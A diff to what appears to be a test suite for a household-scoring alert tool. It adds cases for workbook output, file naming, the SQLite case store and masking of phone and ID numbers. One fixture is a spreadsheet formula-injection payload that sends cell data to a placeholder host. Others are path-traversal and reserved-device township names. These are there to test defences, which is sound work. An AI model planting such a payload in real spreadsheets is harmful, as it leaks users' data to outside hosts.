@@ -531,6 +531,177 @@ def _alerts_with_events(rows: list[dict] | None, name: str = "events.csv"):
 
 PUSH = {**EVENT, "household_id": "00000001", "date": "2025-03-01"}
 
+# -- outputs, workbooks and the case store (issue 15) -----------------------------
+AS_OF = "2025-03-31"
+FORMULA = '=HYPERLINK("http://x.example/?"&A1,"点击查看")'
+
+
+def _alerts(ctx: Ctx, *extra: Any, panel: Path | None = None, out: str = "al") -> list:
+    return [
+        "alerts", panel or _panel_file(ctx), "--model", ctx.model_dir,
+        "--out", ctx.tmp / out, "--as-of", AS_OF, "--quiet", *extra,
+    ]  # fmt: skip
+
+
+def _panel_with(ctx: Ctx, **cols: Any) -> Path:
+    p = ctx.tmp / "panel.parquet"
+    ctx.sim.panel.assign(**cols).to_parquet(p)
+    return p
+
+
+def _formula_village(ctx: Ctx) -> list:
+    return _alerts(ctx, panel=_panel_with(ctx, village=FORMULA))
+
+
+def _check_no_formula(ctx: Ctx) -> None:
+    from openpyxl import load_workbook
+
+    scored = pd.read_csv(ctx.tmp / "al" / "scored.csv", dtype=str, encoding="utf-8-sig")
+    assert (scored["village"] == "'" + FORMULA).all()
+    books = sorted((ctx.tmp / "al" / "excel").glob("*.xlsx"))
+    assert books
+    for book in books:
+        for ws in load_workbook(book).worksheets:
+            for row in ws.iter_rows():
+                assert all(c.data_type != "f" for c in row)
+
+
+def _phone_village(ctx: Ctx) -> list:
+    return _alerts(ctx, panel=_panel_with(ctx, village="丙村13987654321"))
+
+
+def _check_no_phone(ctx: Ctx) -> None:
+    for p in (ctx.tmp / "al").rglob("*.*"):
+        data = p.read_bytes()
+        assert b"13987654321" not in data, p.name
+        if p.suffix == ".csv":
+            assert "丙村###########".encode() in data
+
+
+def _pii_control(ctx: Ctx) -> list:
+    ids = ctx.sim.panel["household_id"].drop_duplicates()
+    people = pd.DataFrame({"household_id": ids, "户主姓名": "王秘密\x0b"})
+    p = ctx.tmp / "pii.csv"
+    people.to_csv(p, index=False)
+    return _alerts(ctx, "--pii", p)
+
+
+def _check_pii_control(ctx: Ctx) -> None:
+    from openpyxl import load_workbook
+
+    book = sorted((ctx.tmp / "al" / "excel").glob("*.xlsx"))[0]
+    ws = load_workbook(book).worksheets[0]
+    header = [c.value for c in ws[1]]
+    assert ws.cell(row=2, column=header.index("户主姓名") + 1).value == "王秘密"
+
+
+def _township_names(ctx: Ctx) -> list:
+    panel = ctx.sim.panel.copy()
+    panel["county"] = panel["county"].iloc[0]  # the names are the file names
+    towns = sorted(panel["township"].unique())
+    names = ["..", "CON", "镇" * 100]
+    panel["township"] = panel["township"].map(
+        {t: names[i % 3] for i, t in enumerate(towns)}
+    )
+    p = ctx.tmp / "panel.parquet"
+    panel.to_parquet(p)
+    return _alerts(ctx, panel=p)
+
+
+def _check_township_names(ctx: Ctx) -> None:
+    names = [p.name for p in (ctx.tmp / "al" / "excel").iterdir()]
+    assert names and all(not n.startswith(".") for n in names)
+    assert all(n.split(".")[0].upper() != "CON" for n in names)
+    assert all(len(n.encode()) <= 200 for n in names)
+    assert {"未填乡镇.xlsx", "CON_.xlsx"} <= set(names) and len(names) == 3
+
+
+def _score_onto_input(ctx: Ctx) -> list:
+    p = csv(ctx, base())
+    return ["score", p, "--model", ctx.model_dir, "--out", p]
+
+
+def _alerts_onto_input(ctx: Ctx) -> list:
+    d = ctx.tmp / "dir"
+    d.mkdir()
+    p = d / "scored.parquet"
+    ctx.sim.panel.to_parquet(p)
+    return _alerts(ctx, panel=p, out="dir")
+
+
+def _report_onto_input(ctx: Ctx) -> list:
+    p = _panel_file(ctx)
+    return ["report", p, "--model", ctx.model_dir, "--out", p]
+
+
+def _store_file(ctx: Ctx, sql: str | None = None) -> str:
+    from fanpin.workflow import CaseStore
+
+    url = f"sqlite:///{ctx.tmp / 'cases.db'}"
+    store = CaseStore(url)
+    if sql:
+        with store.engine.begin() as conn:
+            conn.exec_driver_sql(sql)
+    store.close()
+    return url
+
+
+def _store_not_a_db(ctx: Ctx) -> list:
+    (ctx.tmp / "cases.db").write_bytes(b"PK\x03\x04 a workbook, not a database" * 50)
+    return _alerts(ctx, "--store", f"sqlite:///{ctx.tmp / 'cases.db'}")
+
+
+def _store_no_version(ctx: Ctx) -> list:
+    return _alerts(ctx, "--store", _store_file(ctx, "DROP TABLE fanpin_schema"))
+
+
+def _store_no_index(ctx: Ctx) -> list:
+    url = _store_file(ctx, "DROP INDEX uq_cases_open_household")
+    return _alerts(ctx, "--store", url)
+
+
+def _store_missing_folder(ctx: Ctx) -> list:
+    return _alerts(ctx, "--store", f"sqlite:///{ctx.tmp / 'nope' / 'cases.db'}")
+
+
+def _store_long_village(ctx: Ctx) -> list:
+    url = _store_file(ctx)
+    return _alerts(ctx, "--store", url, panel=_panel_with(ctx, village="长" * 70))
+
+
+def _case(ctx: Ctx) -> str:
+    from fanpin.workflow import CaseStore
+
+    url = _store_file(ctx)
+    with CaseStore(url) as store:
+        store.open_case("0001", actor="a")
+    return url
+
+
+def _note_with_numbers(ctx: Ctx) -> list:
+    return [
+        "cases", "update", "1", "--to", "核查中", "--store", _case(ctx),
+        "--actor", "乙镇干部", "--note", "身份证11010119900307123X 电话139-8765-4321",
+    ]  # fmt: skip
+
+
+def _check_note_masked(ctx: Ctx) -> None:
+    import sqlite3
+
+    con = sqlite3.connect(ctx.tmp / "cases.db")
+    try:
+        dump = "\n".join(con.iterdump())
+    finally:
+        con.close()
+    assert "11010119900307123X" not in dump and "8765-4321" not in dump
+
+
+def _actor_phone(ctx: Ctx) -> list:
+    return [
+        "cases", "update", "1", "--to", "核查中", "--store", _case(ctx),
+        "--actor", "139 8765 4321",
+    ]  # fmt: skip
+
 
 #: Cases whose behaviour is a bug in an area still being written (test skipped).
 KNOWN_BUGS: dict[str, str] = {}
@@ -981,6 +1152,124 @@ CASES: list[Case] = [
         "error",
         "value(s) not allowed, e.g. '住院'",
         _events([{**EVENT, "event_type": "住院"}]),
+    ),
+    # -- outputs, workbooks and the case store
+    Case(
+        "formula-village",
+        "a village named `=HYPERLINK(…)`",
+        "alerts",
+        "accepted",
+        "households scored",
+        _formula_village,
+        _check_no_formula,
+    ),
+    Case(
+        "phone-in-village",
+        "a village name holding a phone number",
+        "alerts",
+        "repair",
+        "phone-like numbers",
+        _phone_village,
+        _check_no_phone,
+    ),
+    Case(
+        "pii-control-character",
+        "a `--pii` name with a control character (`王秘密\\x0b`)",
+        "alerts",
+        "repair",
+        "column '户主姓名' had",
+        _pii_control,
+        _check_pii_control,
+    ),
+    Case(
+        "township-names",
+        "townships named `..`, `CON` and 300 bytes long",
+        "alerts",
+        "accepted",
+        "households scored",
+        _township_names,
+        _check_township_names,
+    ),
+    Case(
+        "score-out-is-input",
+        "`score p.csv --out p.csv`",
+        "score",
+        "error",
+        "would overwrite the input",
+        _score_onto_input,
+    ),
+    Case(
+        "alerts-out-holds-input",
+        "`alerts dir/scored.parquet --out dir`",
+        "alerts",
+        "error",
+        "the input lies inside the output folder",
+        _alerts_onto_input,
+    ),
+    Case(
+        "report-out-is-input",
+        "`report p.parquet --out p.parquet`",
+        "report",
+        "error",
+        "would overwrite the input",
+        _report_onto_input,
+    ),
+    Case(
+        "store-not-a-database",
+        "`--store` pointing at a file that is not a database",
+        "alerts",
+        "error",
+        "the file is not a SQLite database",
+        _store_not_a_db,
+    ),
+    Case(
+        "store-without-version",
+        "a case store whose version table was dropped",
+        "alerts",
+        "error",
+        "no version table",
+        _store_no_version,
+    ),
+    Case(
+        "store-without-open-case-index",
+        "a case store whose unique open-case index was dropped",
+        "alerts",
+        "error",
+        "index uq_cases_open_household is missing or altered",
+        _store_no_index,
+    ),
+    Case(
+        "store-missing-folder",
+        "`--store sqlite:///nope/cases.db` (no such folder)",
+        "alerts",
+        "error",
+        "unable to open database file",
+        _store_missing_folder,
+    ),
+    Case(
+        "store-long-village",
+        "a village name of 70 characters, with a case store",
+        "alerts",
+        "error",
+        "village: ",
+        _store_long_village,
+    ),
+    Case(
+        "note-with-id-and-phone",
+        "`cases update --note` with an ID number and a phone",
+        "cases update",
+        "repair",
+        "masked with #",
+        _note_with_numbers,
+        _check_note_masked,
+    ),
+    Case(
+        "actor-is-a-phone",
+        "`cases update --actor '139 8765 4321'`",
+        "cases update",
+        "error",
+        "Give a role or a login name",
+        _actor_phone,
     ),
 ]
 
